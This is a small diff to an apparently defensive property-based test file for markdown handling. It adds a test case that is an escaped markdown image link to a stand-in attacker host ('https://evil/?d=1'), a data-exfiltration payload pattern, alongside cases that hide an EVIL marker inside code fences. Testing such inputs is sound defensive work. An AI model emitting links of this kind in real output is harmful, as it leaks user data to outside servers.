@@ -59,6 +59,7 @@ def test_open_fences_are_closed(fence):
 
 
 @given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join))
+@example("\\![a](https://evil/?d=1)")
 @example(f"a ` b\nc ` {EVIL} ` d")
 @example(f"- a\n  ```\n{EVIL}")
 @example(f"[a](b`c) {EVIL} `d")
